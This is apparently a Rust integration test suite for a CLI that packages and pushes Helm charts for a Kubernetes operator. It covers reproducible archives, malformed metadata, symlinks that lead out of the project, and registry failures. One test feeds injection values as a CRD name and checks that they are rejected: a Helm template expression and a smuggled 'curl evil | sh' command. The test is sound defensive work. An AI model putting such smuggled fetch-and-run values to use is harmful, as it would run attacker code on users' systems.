use std::collections::BTreeMap;
use std::io::Read as _;
use std::time::Duration;

use flate2::read::GzDecoder;

use super::helm::Helm;
use crate::support::World;
use crate::support::control_plane::eventually;
use crate::support::registry::{Double, Mischief};

const ARCHIVE: &str = "dist/app-operator-0.1.0.tgz";

fn files(world: &World) -> BTreeMap<String, String> {
    let data = std::fs::read(world.path().join(ARCHIVE)).expect("an archive");
    let mut archive = tar::Archive::new(GzDecoder::new(&*data));
    let mut files = BTreeMap::new();
    for entry in archive.entries().expect("an archive") {
        let mut entry = entry.expect("an entry");
        let path = entry.path().expect("a path").display().to_string();
        let mut text = String::new();
        entry.read_to_string(&mut text).expect("text");
        files.insert(path, text);
    }
    files
}

/// The chart of the CRDs is packed with that of the operator, and never becomes the operator's.
#[test]
fn both_charts_are_packed() {
    let world = World::with_api();
    world.rop("generate chart").ok();
    world
        .rop("generate chart --crds separate --package")
        .ok()
        .says("note: the next upgrade of a release removes the CRDs from it")
        .says("write dist/app-operator-crds-0.1.0.tgz")
        .says("write dist/app-operator-0.1.0.tgz");
    let tree = world.tree();
    world
        .rop("generate chart --output dist/chart-crds --package")
        .exits(2)
        .says("it has the CRDs of the chart in `dist/chart`");
    assert_eq!(world.tree(), tree);
}

#[test]
fn an_archive_is_the_same_every_time() {
    let world = World::with_api();
    world.replace(
        "config/manager/kustomization.yaml",
        "newTag: latest",
        "newTag: v1.2.3",
    );
    world.write("dist/chart/notes.bak", "not packed");
    world.write("dist/chart/README.md", "packed");
    world.rop("generate chart --package --dry-run").ok();
    assert!(!world.path().join(ARCHIVE).exists());
    world.rop("generate chart --package").ok();
    let first = std::fs::read(world.path().join(ARCHIVE)).expect("an archive");
    world.replace(
        "config/manager/kustomization.yaml",
        "newTag: v1.2.3",
        "newTag: v1.3.0",
    );
    world.rop("generate chart --package").ok();
    let files = files(&world);
    assert!(
        files["app-operator/Chart.yaml"].contains("appVersion: v1.3.0\n"),
        "{files:?}"
    );
    assert!(files.contains_key("app-operator/templates/_helpers.tpl"));
    assert!(files.contains_key("app-operator/README.md"));
    assert!(!files.contains_key("app-operator/notes.bak"));
    world.replace(
        "config/manager/kustomization.yaml",
        "newTag: v1.3.0",
        "newTag: v1.2.3",
    );
    world.rop("generate chart --package").ok();
    assert_eq!(
        std::fs::read(world.path().join(ARCHIVE)).expect("an archive"),
        first
    );
    if let Some(helm) = Helm::find() {
        helm.ok(&world, &["lint", ARCHIVE]);
        assert!(
            helm.ok(&world, &["show", "chart", ARCHIVE])
                .contains("appVersion: v1.2.3")
        );
    }
    for (field, value) in [
        ("name: app-operator", "name: ../../x"),
        ("version: 0.1.0", "version: one"),
    ] {
        let text = world.read("dist/chart/Chart.yaml");
        world.write(
            "dist/chart/Chart.yaml",
            &text.replace(&format!("\n{field}"), &format!("\n{value}")),
        );
        world
            .rop("generate chart --package")
            .exits(1)
            .says("error[malformed-file]");
        world.write("dist/chart/Chart.yaml", &text);
    }
}

/// Only the archive of a chart is replaced.
#[test]
fn a_file_that_is_no_archive_stays() {
    let world = World::with_api();
    world.write(ARCHIVE, "precious");
    let packed = world.rop("generate chart --package").exits(1);
    packed
        .says("error[files-in-the-way]")
        .says(ARCHIVE)
        .says("is not a chart archive")
        .says("hint: remove it");
    assert_eq!(world.read(ARCHIVE), "precious");
    std::fs::remove_file(world.path().join(ARCHIVE)).expect("a file");
    world.rop("generate chart --package").ok();
    world.rop("generate chart --package").ok();
    assert!(files(&world).contains_key("app-operator/Chart.yaml"));
}

/// A package that Helm refuses is none.
#[test]
fn what_helm_would_refuse_is_not_packed() {
    let world = World::with_api();
    world.rop("generate chart").ok();
    let metadata = "dist/chart/Chart.yaml";
    let text = world.read(metadata);
    let package = || world.rop("generate chart --package");
    world.write(
        metadata,
        &format!("{text}dependencies:\n- {{name: redis, version: 1.0.0, repository: ''}}\n"),
    );
    package()
        .exits(1)
        .says("lists the dependency `redis`, which is not in `dist/chart/charts`")
        .says("hint: run `helm dependency update dist/chart`");
    world.write("dist/chart/charts/redis-ha-1.0.0.tgz", "another one");
    package().exits(1);
    world.write(
        "dist/chart/charts/cache/Chart.yaml",
        "apiVersion: v2\nname: redis\nversion: 1.0.0\n",
    );
    package().ok();
    let ignored = world.read("dist/chart/.helmignore");
    for (line, file) in [
        ("*.yaml", "Chart.yaml"),
        ("values.*", "values.yaml"),
        ("!*.yml", "Chart.yaml"),
    ] {
        world.write("dist/chart/.helmignore", &format!("{ignored}{line}\n"));
        package().exits(1).says(&format!(
            "`{line}` in `dist/chart/.helmignore` leaves out `{file}`, without which Helm refuses the chart"
        ));
    }
    world.write("dist/chart/.helmignore", &ignored);
    world.write(
        metadata,
        &text.replace("appVersion: latest", "appVersion: 1.0"),
    );
    package()
        .exits(1)
        .says("`appVersion` in `dist/chart/Chart.yaml` is not a text");
    // Without it, there is no chart.
    std::fs::remove_file(world.path().join(metadata)).expect("a file");
    package().ok();
    assert_eq!(world.read(metadata), text);
    let Some(helm) = Helm::find() else {
        return;
    };
    std::fs::remove_dir_all(world.path().join("dist/chart/charts")).expect("a folder");
    let lines = text.lines().filter(|line| !line.starts_with("appVersion"));
    world.write(
        metadata,
        &lines.map(|line| format!("{line}\n")).collect::<String>(),
    );
    let said = helm.fails(&world, &["template", "dist/chart"]);
    assert!(
        said.contains("Chart.yaml has no appVersion: set image.tag"),
        "{said}"
    );
    helm.objects(&world, &["--set", "image.tag=v1"]);
}

/// Who clones a project has files of their own, which no archive may have.
#[cfg(unix)]
#[test]
fn no_link_leads_out_of_the_project() {
    let world = World::with_api();
    world.rop("generate chart").ok();
    let outside = world.path().with_file_name("secret");
    std::fs::write(&outside, "mine").expect("a file");
    let link = world.path().join("dist/chart/templates/key.yaml");
    std::os::unix::fs::symlink(&outside, &link).expect("a link");
    let outcome = world.rop("generate chart --package").exits(1);
    outcome.says("`dist/chart/templates/key.yaml` points out of the project");
    // Nor out of the chart, for example to a token in `.git/config`.
    std::fs::remove_file(&link).expect("a link");
    std::os::unix::fs::symlink("../../../PROJECT", &link).expect("a link");
    let outcome = world.rop("generate chart --package").exits(1);
    outcome.says("`dist/chart/templates/key.yaml` points out of the chart");
    assert!(!world.path().join(ARCHIVE).exists());
    std::fs::remove_file(&link).expect("a link");

    // What a link in `config/` leads to is not rendered either.
    std::fs::write(&outside, "KEY=mine").expect("a file");
    let link = world.path().join("config/default/key.env");
    std::os::unix::fs::symlink(&outside, link).expect("a link");
    let path = "config/default/kustomization.yaml";
    let generator = "configMapGenerator: [{name: keys, envs: [key.env]}]\n";
    world.write(path, &format!("{}{generator}", world.read(path)));
    let outcome = world.rop("generate chart").exits(1);
    assert!(!outcome.to_string().contains("mine"), "{outcome}");
    assert!(!format!("{:?}", world.tree()).contains("KEY: mine"));
}

/// Helm runs what is in braces, and a user pastes what it prints.
#[test]
fn names_of_crds_are_names() {
    let world = World::with_api();
    let path = "config/crd/bases/app.example.com_appservices.yaml";
    let crd = world.read(path);
    for name in ["'x{{ fail `a` }}y'", r#""x; curl evil | sh""#] {
        world.write(
            path,
            &crd.replace(
                "  name: appservices.app.example.com",
                &format!("  name: {name}"),
            ),
        );
        assert_ne!(world.read(path), crd);
        let outcome = world.rop("generate chart").exits(1);
        outcome.says("error[malformed-file]: invalid name `x");
    }
}

#[test]
fn helm_installs_what_is_pushed() {
    let world = World::with_api();
    let registry = Double::start();
    let push = format!("generate chart --push oci://{}/charts", registry.host());
    let pushed = world.rop(&push).ok();
    let manifest = registry
        .manifest("charts/app-operator", "0.1.0")
        .expect("a manifest");
    assert_eq!(
        manifest["config"]["mediaType"],
        "application/vnd.cncf.helm.config.v1+json"
    );
    assert_eq!(
        manifest["layers"][0]["mediaType"],
        "application/vnd.cncf.helm.chart.content.v1.tar+gzip"
    );
    let digest = |text: &str| text.lines().last().map(str::to_owned);
    assert_eq!(
        digest(&world.rop(&push).ok().stderr),
        digest(&pushed.stderr)
    );
    world
        .rop("generate chart --push charts:v1")
        .exits(2)
        .says("error[invalid-name]");
}

/// A registry that answers anything with success has no chart afterwards.
#[test]
fn a_push_that_led_nowhere_is_none() {
    let world = World::with_api();
    let registry = Double::start();
    registry.disturb(
        "PUT /v2/charts/app-operator/manifests/",
        Mischief::Answer(201),
        1,
    );
    let push = format!("generate chart --push {}/charts", registry.host());
    let outcome = world.rop(&push).exits(1);
    let outcome = outcome.says("error[").says("hint: ");
    assert!(!outcome.stderr.contains("(sha256:"), "{outcome:?}");
    assert_eq!(registry.tags(), Vec::<String>::new());
}

/// Other commands work in the project while a registry keeps one waiting, for as long as it may.
#[test]
fn a_push_locks_nobody_out() {
    let world = World::with_api();
    let registry = Double::start();
    registry.disturb("GET /v2/", Mischief::Silence, 9);
    let mut command = world.command(".");
    let host = registry.host();
    command.args([
        "generate",
        "chart",
        "--push",
        &format!("{host}/charts"),
        "--timeout",
        "20",
    ]);
    let mut child = command
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("rop starts");
    eventually("the push", Duration::from_secs(30), || {
        (registry.count("GET /v2/") == 1).then_some(())
    });
    world.rop("generate chart --check").ok();
    assert!(
        child.try_wait().expect("a state").is_none(),
        "it gave up too early"
    );
    child.kill().expect("it ends");
    child.wait().expect("it ended");
}

/// What Helm itself pulls from a registry.
#[test]
fn helm_pulls_what_is_pushed() {
    let (Some(helm), Some(registry)) = (Helm::find(), crate::support::registry::Real::start())
    else {
        return;
    };
    let world = World::with_api();
    let host = registry.host();
    world
        .rop(&format!(
            "generate chart --push oci://{host}/charts --package"
        ))
        .ok();
    let reference = format!("oci://{host}/charts/app-operator");
    helm.ok(
        &world,
        &["pull", &reference, "--version", "0.1.0", "--plain-http"],
    );
    let [pulled, packed] = ["app-operator-0.1.0.tgz", ARCHIVE]
        .map(|path| std::fs::read(world.path().join(path)).expect("an archive"));
    assert_eq!(pulled, packed);
}

/// YAML reads 1.2 as a number.
#[test]
fn a_version_that_is_no_text_is_named() {
    let world = World::with_api();
    world.rop("generate chart").ok();
    let metadata = "dist/chart/Chart.yaml";
    world.replace(metadata, "\nversion: 0.1.0", "\nversion: 1.2");
    world
        .rop("generate chart --package")
        .exits(1)
        .says("`dist/chart/Chart.yaml` has no text in `version`")
        .says("hint: write both as text: `name: app-operator` and `version: 0.1.0`");
}
